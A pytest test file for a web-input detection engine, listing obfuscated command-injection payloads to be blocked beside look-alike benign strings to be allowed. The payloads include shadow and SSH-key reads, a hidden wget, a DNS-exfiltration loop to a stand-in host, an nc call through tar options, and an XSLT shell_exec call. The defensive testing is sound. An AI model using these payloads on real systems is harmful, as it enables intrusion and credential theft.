"""Unit: command injection shapes left over after fresh11 (parameter-expansion tricks, decoded constants, escaped
line breaks, probes behind wrappers, DNS-exfiltration loops, Windows wildcards and listings, XSLT calling PHP), and
the benign values of the same look each rule must let through. Every case goes through the whole engine (decoders,
prefilter, analysers), with other values than the corpus uses."""

from __future__ import annotations

import pytest

from bastion.detection import Context, Engine

BODY = Context("body", "comment")
QUERY = Context("query", "q")
HEADER = Context("header", "x-note")

ATTACKS: dict[str, tuple[str, Context]] = {
    # one character of a variable standing for "/" or a letter
    "substring_char_as_slash": ("head ${PWD:0:1}etc${PWD:0:1}shadow", QUERY),
    "substring_char_glued_to_path": ("ls -la ${SHELL:0:1}root", BODY),
    "substring_char_as_argument": ("printf ${PATH:0:1}", QUERY),
    # a variable with filler removed, as a command's argument
    "pattern_delete_argument": ("tail ${p//xq?z/}", QUERY),
    "pattern_delete_escaped_slash": ("cat ${v/zz\\/qq/}", BODY),
    # a constant decoded, reversed or translated by the shell
    "hex_here_string_in_backticks": ("more `xxd -r -p <<< 2f726f6f742f2e7373682f69645f727361`", QUERY),
    "base64_process_substitution": ("more `base64 -d <(echo L2V0Yy9ob3N0cw==)`", BODY),
    "tr_here_string_constant": ("tr '+-.' ',-/' <<< -", QUERY),
    "tr_of_echo_in_substitution": ("ls `echo - | tr '+-.' ',-/'`tmp", BODY),
    "rev_here_string": ("tail `rev <<< stsoh/cte/`", HEADER),
    # a line break written as \n around a command
    "escaped_newline_around_recon": ("\\nnetstat -an\\n", QUERY),
    "escaped_newline_after_separator": ("|/usr/bin/whoami\\n", BODY),
    "escaped_newline_before_probe": ("\\r\\nsleep 7", HEADER),
    "terminal_escape_hides_line": ("\\nexit 0\\n\\033[2Awget -q http://198.51.100.4/x\\n", BODY),
    # a form encoder's "+" for the space after a separator
    "plus_after_separator": ("x||+ping -n 9 127.0.0.1", BODY),
    # a probe behind a wrapper, output thrown away or in the background
    "nohup_sleep_background": ("nohup sleep 45 2>/dev/null &", QUERY),
    "setsid_ping_address": ("setsid ping -n 20 127.0.0.1 >nul", BODY),
    # a bare probe that ends in a separator: the rest of the application's command line follows it
    "probe_then_trailing_pipe": ("ping -n 12 127.0.0.1 |", QUERY),
    "probe_in_background": ("sleep 11 &", BODY),
    "recon_then_semicolon": ("ifconfig -a;", HEADER),
    # a file read into the command line by bash's $(<path)
    "file_read_substitution": ("printf %s $(</proc/version)", QUERY),
    # a loop over a command's output, looked up as host names
    "loop_output_through_dns": ("for l in `cat /etc/hostname`; do nslookup $l.oob.example.net; done", QUERY),
    # a word split by a backslash-newline in a command's arguments
    "continued_word_in_argument": ("head /e\\\ntc/sha\\\ndow", BODY),
    # Windows wildcards standing for a binary, a drive listing with a spaced folder
    "powershell_wildcard_binary": ("pwsh C:\\W*\\S*32\\c?lc.e?e", QUERY),
    "dir_of_spaced_system_folder": ("dir C:\\Program Files (x86)\\*", BODY),
    "recon_url_with_query": ("wget http://203.0.113.9/s.php?c=id", QUERY),
    "windows_wildcard_command_after_separator": ("| C:\\W*\\Sys*\\whoa?i.e*", QUERY),
    # bash's $'…' quoting made only of character codes
    "ansi_c_octal_command": ("$'\\151\\146\\143\\157\\156\\146\\151\\147'", QUERY),
    "ansi_c_octal_after_separator": ("x;$'\\150\\145\\141\\144' notes.txt", BODY),
    "ansi_c_octal_variable_run": ("R=$'\\165\\156\\141\\155\\145';$R", BODY),
    # a braced variable inside a word, unset, so the word joins
    "braced_unset_variable_in_word": ("&& w${z}ho${z}ami", QUERY),
    "substring_char_empty_offset": ("tac ${HOME::1}etc${HOME::1}group", QUERY),
    # argument injection: an option that makes the program run a command
    "git_upload_pack_option": ("--upload-pack=touch /tmp/pwned", QUERY),
    "git_ssh_command_config": ("-c core.sshCommand=\"sh -c id\"", BODY),
    "tar_checkpoint_action": ("--checkpoint-action=exec=/tmp/run.sh", QUERY),
    "tar_compress_program": ("--use-compress-program=nc 203.0.113.7 9001", BODY),
    "tar_to_command": (" --to-command='sh -c id'", QUERY),
    # an XSLT stylesheet calling PHP's command functions
    "xslt_php_function": ("<xsl:value-of select=\"php:function('shell_exec','uname -a')\"/>", BODY),
}

BENIGN: dict[str, tuple[str, Context]] = {
    "template_placeholder": ("Hello ${name}, your order ${order.id} has shipped", BODY),
    "spring_placeholder_default": ("${server.port:8080}", QUERY),
    "compose_default": ("image: app:${TAG:-latest}", BODY),
    "build_step_sha_prefix": ("docker build -t app:${GIT_SHA:0:7} .", BODY),
    "bash_substring_in_prose": ("Use ${name:0:1} in bash to get the first letter of a name.", BODY),
    "echo_pattern_substitution": ("echo ${PATH//:/ }", BODY),
    "decoding_a_variable": ("echo \"$B64\" | base64 -d > key.pem", BODY),
    "translating_a_variable": ("clean=$(tr -d '\\r' <<< \"$line\")", BODY),
    "tr_word_case": ("tr a-z A-Z <<< hello", BODY),
    "printf_with_escaped_newline": ("printf(\"%d items\\n\", n);", BODY),
    "json_with_escaped_lines": ("{\"msg\":\"line1\\nline2\\nid: 7\"}", BODY),
    "windows_path_with_n": ("C:\\new\\notes\\nid.txt", BODY),
    "escaped_newline_prose": ("Thanks!\\n", BODY),
    "escaped_newline_title": ("\\nThe id of the order", QUERY),
    "c_plus_plus": ("C++ | C# | Go", BODY),
    "nohup_service": ("nohup python app.py > app.log 2>&1 &", BODY),
    "time_in_prose": ("time sleep is overrated", BODY),
    "for_loop_over_files": ("for f in $(ls *.csv); do wc -l \"$f\"; done", BODY),
    "loop_pinging_hosts_list": ("for h in web db; do ping -c 1 $h; done", BODY),
    "continued_command_line": ("docker run \\\n  -p 80:80 \\\n  nginx", BODY),
    "dir_in_prose": ("dir C: is full, please clean it", BODY),
    "windows_file_path": ("C:\\Users\\ana\\Documents\\report?.docx", BODY),
    "xslt_php_formatting": ("<xsl:value-of select=\"php:function('ucfirst', string(name))\"/>", BODY),
    "price_and_dollars": ("Only $5 for 2, ${price} each", QUERY),
    "cron_line": ("*/5 * * * * /usr/local/bin/backup.sh > /dev/null 2>&1", BODY),
    "file_patterns_list": ("C:\\Logs\\*.txt; D:\\Exports\\2024-??.csv", BODY),
    "ansi_c_newline_in_prose": ("IFS=$'\\n' splits on lines only", BODY),
    "template_var_in_word": ("Dear ${first}${last}, thanks", BODY),
    "cli_option_in_docs": ("--config=./bastion.toml --exec-timeout=30s", QUERY),
    "git_config_option": ("-c core.autocrlf=false", QUERY),
    "markdown_loop_block": ("To compress logs:\n\n```bash\nfor f in $(ls *.log); do gzip \"$f\"; done\n```\n", BODY),
    "markdown_substring_block": ("Short hash:\n\n    echo ${GITHUB_SHA:0:8}\n", BODY),
    "windows_program_path": ("C:\\Program Files\\nodejs\\node.exe", Context("body", "file")),
    "prose_ending_in_ampersand": ("sleep well &", BODY),
    "table_row_with_pipe": ("| ping | 20 ms |", BODY),
    "quoted_suffix_removal": ("mv \"$f\" \"${f/.bak/}\"", BODY),
    "quoted_initial": ("echo \"${name:0:1}.\"", BODY),
    "relative_file_substitution": ("VERSION=$(<VERSION) make release", BODY),
    "english_tool_words": ("Find the host, cat and date of more sleep", BODY),
}


@pytest.mark.parametrize(("value", "ctx"), ATTACKS.values(), ids=ATTACKS.keys())
def test_cmdi_leftover_shape_is_blocked(engine: Engine, value: str, ctx: Context) -> None:
    found = engine.inspect(value, ctx)
    assert found is not None, value
    assert found.rule.attack in {"cmdi", "traversal"}, (value, found.rule.attack)


@pytest.mark.parametrize(("value", "ctx"), BENIGN.values(), ids=BENIGN.keys())
def test_cmdi_leftover_benign_passes(engine: Engine, value: str, ctx: Context) -> None:
    assert engine.inspect(value, ctx) is None, value
